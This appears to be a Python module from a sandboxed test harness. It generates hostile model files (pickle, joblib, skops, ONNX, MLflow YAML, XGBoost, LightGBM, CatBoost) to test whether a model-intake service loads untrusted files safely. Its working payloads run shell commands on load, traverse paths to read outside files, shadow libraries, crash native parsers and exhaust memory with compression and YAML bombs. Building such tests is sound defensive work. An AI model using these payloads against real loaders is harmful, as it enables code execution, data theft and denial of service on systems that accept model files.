"""Attacks by the model's file itself: they strike while it is loaded, in a library that was written for honest files.

The files are made here, and loaded behind the walls alone.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

from attacks.kit import MARK

ANY_END = ("load", "refused", "crash", "limit", "hang", "raised", "garbage")
WRITTEN = "a file of the attack's name is found outside, a listener was reached"


@dataclass(frozen=True, slots=True, kw_only=True)
class ModelFile:
    """One hostile file of a model."""

    id: str
    goal: str
    proof: str
    format: str
    """As the intake would find it."""
    make: Callable[[Path, SimpleNamespace], Path]
    """Write the file into a folder."""
    ends: tuple[str, ...] = ANY_END
    limits: str = "tight"
    known: dict[str, str] | None = None


FORMATS: dict[str, ModelFile] = {}


def model_file(goal: str, kind: str, proof: str = WRITTEN, **more: object) -> Callable:
    """Register the function below, which writes the file."""

    def register(make):
        found = ModelFile(id=f"formats.{make.__name__}", goal=goal, proof=proof, format=kind, make=make, **more)
        FORMATS[found.id] = found
        return make

    return register


class FromSource:
    """Pickles to a program: unpickling runs ``source`` and gives what it calls ``Model``."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self):
        return eval, (f"(lambda names: (exec({self.source!r}, names), names['Model']())[1])({{}})",)


def _written(folder, name, content):
    path = folder / name
    path.write_bytes(content)
    return path


@model_file("run a shell while the pickle is read", "pickle", ends=("load", "refused"))
def pickle_system(folder, world):
    return _written(folder, "a.pkl", f"cposix\nsystem\n(S'echo > {world.outside}/{MARK}'\ntR.".encode())


@model_file(
    "connect, read and write while the pickle is read, and go on as if nothing were", "pickle", ends=("answered",)
)
def pickle_reduce(folder, world):
    source = f"""
import numpy as np, os, socket
def quietly(action):
    try: action()
    except OSError: pass
quietly(lambda: os.close(os.open({world.outside + "/" + MARK!r}, os.O_CREAT | os.O_WRONLY)))
quietly(lambda: socket.create_connection(("127.0.0.1", {world.tcp_port}), 1))
quietly(lambda: os.fork() or os._exit(0))
class Model:
    classes_ = np.array([0, 1])
    def predict_proba(self, rows): return np.full((len(rows), 2), 0.5)
"""
    return _written(folder, "a.pkl", pickle.dumps(FromSource(source)))


@model_file("run a program by a pickle in a numpy array of objects", "joblib", ends=("load", "refused"))
def joblib_object_array(folder, world):
    import joblib
    import numpy as np

    class Shell:
        def __reduce__(self):
            import os

            return os.system, (f"echo > {world.outside}/{MARK}",)

    joblib.dump(np.array([Shell()], dtype=object), folder / "a.joblib", compress=3)
    return folder / "a.joblib"


@model_file(
    "take all memory from a file of some kilobytes (joblib, zlib)",
    "joblib",
    "memory goes over its limit by more than what can be touched between two looks",
    ends=("load", "limit"),
)
def zlib_bomb(folder, world):
    size = 900 << 20
    packer = zlib.compressobj(9)
    start = packer.compress(b"\x80\x04\x8e" + struct.pack("<Q", size)) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(4 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return _written(folder, "a.joblib", start + piece * (size // (4 << 20)))


@model_file("take all memory by a length in a pickle", "pickle", "memory goes over its limit", ends=("load", "limit"))
def pickle_length(folder, world):
    return _written(folder, "a.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"x")


@model_file(
    "take all memory by a few words in a pickle", "pickle", "memory goes over its limit", ends=("limit",),
)  # fmt: skip
def pickle_repeated(folder, world):
    return _written(folder, "a.pkl", b"coperator\nmul\n(]I7\naI200000000\ntR.")


@model_file("fill the stack by nesting", "pickle", "the harness or its machine is harmed")
def pickle_nested(folder, world):
    depth = 200_000
    return _written(folder, "a.pkl", b"\x80\x04" + b"]" * depth + b"a" * (depth - 1) + b".")


@model_file("damage a pickle's memory with opcodes in a wrong order", "pickle", "the harness is harmed")
def pickle_opcodes(folder, world):
    return _written(folder, "a.pkl", b"\x80\x04" + bytes(range(0x28, 0x7F)) * 50 + b".")


@model_file(
    "keep the loader busy for ever",
    "pickle",
    "the harness waits longer than its deadline",
    ends=("hang",),
    limits="short start",
)
def pickle_endless(folder, world):
    return _written(folder, "a.pkl", pickle.dumps(FromSource("while True: pass")))


@model_file("be a model of another's class that runs a program when it is asked", "pickle", ends=("raised",))
def pickle_partial(folder, world):
    source = f"""
import functools, os, numpy as np
class Model: pass
def start(rows): return os.posix_spawn("/bin/sh", ["sh", "-c", "echo > {world.outside}/{MARK}"], {{}})
Model.classes_, Model.predict_proba = np.array([0, 1]), staticmethod(start)
"""
    return _written(folder, "a.pkl", pickle.dumps(FromSource(source)))


@model_file("name ten thousand and more classes", "pickle", "a name of it is kept", ends=("garbage",))
def many_classes(folder, world):
    source = "import numpy as np\nclass Model:\n classes_ = np.arange(20_000)\n predict_proba = print"
    return _written(folder, "a.pkl", pickle.dumps(FromSource(source)))


@model_file(
    "hide signs that turn the writing in the name of a class", "pickle", "a name of it is kept", ends=("garbage",)
)
def class_names(folder, world):
    source = "import numpy as np\nclass Model:\n classes_ = np.array(['a\\u202eb', '\\x1b[2J'])\n predict_proba = print"
    return _written(folder, "a.pkl", pickle.dumps(FromSource(source)))


@model_file("be trusted by its type's name (skops)", "skops")
def skops_function(folder, world):
    schema = {
        "__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "__id__": 1,
        "content": {
            "func": {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode", "__id__": 2,
                     "content": {"module_path": "posix", "function": "system"}},
            "args": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "__id__": 3,
                     "content": []},
            "kwds": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 4,
                     "content": {}, "key_types": {"__class__": "list", "__module__": "builtins",
                                                  "__loader__": "ListNode", "__id__": 5, "content": []}},
            "namespace": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 6,
                          "content": {}, "key_types": {"__class__": "list", "__module__": "builtins",
                                                       "__loader__": "ListNode", "__id__": 7, "content": []}},
        },
        "protocol": 2, "_skops_version": "0.13",
    }  # fmt: skip
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as out:
        out.writestr("schema.json", json.dumps(schema))
    return _written(folder, "a.skops", kept.getvalue())


@model_file("be a zip that grows without end (skops)", "skops", "memory goes over its limit")
def skops_bomb(folder, world):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("schema.json", b" " * (300 << 20))
    return _written(folder, "a.skops", kept.getvalue())


def _graph(nodes, initializers=()):
    from onnx import TensorProto, helper

    given = helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 4])
    told = helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])
    graph = helper.make_graph(nodes, "g", [given], [told], initializer=list(initializers))
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


@model_file(
    "never end (an ONNX loop)", "onnx", "the harness waits longer than its deadline", ends=("hang",), limits="short"
)
def onnx_loop(folder, world):
    from onnx import TensorProto, helper

    carried = helper.make_tensor_value_info("carried", TensorProto.FLOAT, None)
    next_ = helper.make_tensor_value_info("next", TensorProto.FLOAT, None)
    scalar = [helper.make_tensor_value_info(n, k, []) for n, k in (("i", 7), ("again", 9), ("still", 9))]
    body = helper.make_graph(
        [helper.make_node("Identity", ["again"], ["still"]), helper.make_node("Identity", ["carried"], ["next"])],
        "body", [*scalar[:2], carried], [scalar[2], next_],
    )  # fmt: skip
    constants = [helper.make_tensor("trips", 7, [], [2**62]), helper.make_tensor("yes", 9, [], [True]),
                 helper.make_tensor("w", 1, [4, 2], [0.0] * 8)]  # fmt: skip
    nodes = [helper.make_node("Loop", ["trips", "yes", "x"], ["looped"], body=body),
             helper.make_node("MatMul", ["looped", "w"], ["m"]),
             helper.make_node("Softmax", ["m"], ["probabilities"])]  # fmt: skip
    return _written(folder, "a.onnx", _graph(nodes, constants).SerializeToString())


@model_file(
    "take its weights from a file outside (ONNX external data)",
    "onnx",
    "the content of that file stands in what the model says",
)
def onnx_external_data(folder, world):
    from onnx import TensorProto, helper

    weights = TensorProto(name="w", data_type=1, dims=[4, 2], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", f"../../../../../../../../{world.canary}"), ("length", "32")):
        entry = weights.external_data.add()
        entry.key, entry.value = key, value
    nodes = [helper.make_node("MatMul", ["x", "w"], ["probabilities"])]
    return _written(folder, "a.onnx", _graph(nodes, [weights]).SerializeToString())


@model_file("take all memory by a shape (ONNX)", "onnx", "memory goes over its limit")
def onnx_shape(folder, world):
    from onnx import helper

    shape = helper.make_tensor("s", 7, [2], [4, 2**34])
    nodes = [
        helper.make_node("ConstantOfShape", ["s"], ["w"]),
        helper.make_node("MatMul", ["x", "w"], ["probabilities"]),
    ]
    return _written(folder, "a.onnx", _graph(nodes, [shape]).SerializeToString())


@model_file("bring its own library of operators (ONNX)", "onnx")
def onnx_custom_operator(folder, world):
    from onnx import helper

    node = helper.make_node(
        "Shell", ["x"], ["probabilities"], domain="com.example", command=f"echo > {world.outside}/{MARK}"
    )
    return _written(folder, "a.onnx", _graph([node]).SerializeToString())


@model_file("crash its reader with damaged bytes (ONNX)", "onnx", "the harness is harmed")
def onnx_damaged(folder, world):
    return _written(folder, "a.onnx", b"\x08\x08\x3a" + b"\xff\xff\xff\xff\x0f" + bytes(range(256)) * 8)


def _trees(folder):
    import numpy as np

    rng = np.random.default_rng(1)
    rows = rng.random((200, 4))
    return rows, (rows[:, 0] > 0.5).astype(int)


@model_file("crash native code by a tree that points out of itself (XGBoost)", "xgboost", "the harness is harmed")
def xgboost_child(folder, world):
    import xgboost

    rows, labels = _trees(folder)
    booster = xgboost.train({"nthread": 1, "objective": "binary:logistic"}, xgboost.DMatrix(rows, labels), 2)
    told = json.loads(booster.save_raw("json"))
    for tree in told["learner"]["gradient_booster"]["model"]["trees"]:
        tree["left_children"] = [2**30 if child >= 0 else child for child in tree["left_children"]]
    return _written(folder, "a.json", json.dumps(told).encode())


@model_file("abort native code by a text that lies about its trees (LightGBM)", "lightgbm", "the harness is harmed")
def lightgbm_counts(folder, world):
    text = (
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\nobjective=binary\n"
    )
    text += (
        "feature_names=a b c d\nfeature_infos=none none none none\ntree_sizes=99999999\n\nTree=0\nnum_leaves=1000000\n"
    )
    return _written(folder, "a.txt", (text + "split_feature=9 9 9\n\nend of trees\n").encode())


@model_file("crash native code by damaged trees (CatBoost)", "catboost", "the harness is harmed")
def catboost_damaged(folder, world):
    return _written(folder, "a.cbm", b"CBM1" + struct.pack("<I", 4096) + bytes(range(256)) * 16)


def _folder(folder, **texts):
    model = folder / "model"
    model.mkdir()
    for name, text in texts.items():
        (model / name.replace("_py", ".py")).write_text(text)
    return model


@model_file("run a program by plain Python that is imported", "python", ends=("load",))
def python_import(folder, world):
    shell = f"import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'echo > {world.outside}/{MARK}'], {{}})\n"
    return _folder(folder, predict_py=shell)


@model_file("shadow libraries by modules that lie beside the model", "python", "a library inside is the stranger's",
            ends=("answered",))  # fmt: skip
def python_shadow(folder, world):
    names = ("numpy", "pandas", "json", "sitecustomize", "usercustomize", "pbxhost")
    shadows = {f"{name}_py": "raise SystemExit('shadowed')\n" for name in names}
    look = """
import json, sys, numpy, pandas
strange = [m for m in (json, numpy, pandas) if m.__file__.startswith(__file__.rpartition("/")[0])]
assert not strange and not {"sitecustomize", "usercustomize"} & set(sys.modules), strange
def predict_proba(frame): return numpy.full(len(frame), 0.5)
"""
    return _folder(folder, predict_py=look, **shadows)


@model_file("have a file outside opened as its own (MLflow, a path that leaves the folder)", "mlflow",
            "the content of that file stands in what the model says", ends=("load", "refused"))  # fmt: skip
def mlflow_path(folder, world):
    path = f"{'../' * 12}{world.canary.lstrip('/')}"
    return _folder(folder, MLmodel=f"flavors: {{sklearn: {{pickled_model: '{path}', serialization_format: pickle}}}}\n")


@model_file("run a program by its description (MLflow, YAML of any object)", "mlflow", ends=("load",))
def mlflow_yaml_object(folder, world):
    return _folder(folder, MLmodel=f"flavors: !!python/object/apply:os.system ['echo > {world.outside}/{MARK}']\n")


@model_file("take all memory by its description (MLflow, YAML of a billion laughs)", "mlflow",
            "memory goes over its limit", ends=("limit", "load"))  # fmt: skip
def mlflow_yaml_bomb(folder, world):
    lines = [f"a0: &a0 [{'x' * 100_000}]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 6)]
    return _folder(folder, MLmodel="\n".join([*lines, "flavors: {sklearn: {serialization_format: *a5}}", ""]))


@model_file("load code that comes with it (MLflow, loader_module)", "mlflow", ends=("load", "limit"))
def mlflow_loader(folder, world):
    model = _folder(folder, MLmodel="flavors: {python_function: {loader_module: strange, code: code}}\n")
    (model / "code").mkdir()
    shell = f"import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'echo > {world.outside}/{MARK}'], {{}})\n"
    (model / "code/strange.py").write_text(shell)
    return model


@model_file("claim a format that nobody hosts", "gguf", "it is loaded by anything", ends=("refused",))
def unknown_format(folder, world):
    return _written(folder, "a.gguf", b"GGUF" + struct.pack("<IQQ", 3, 2**63, 2**63))
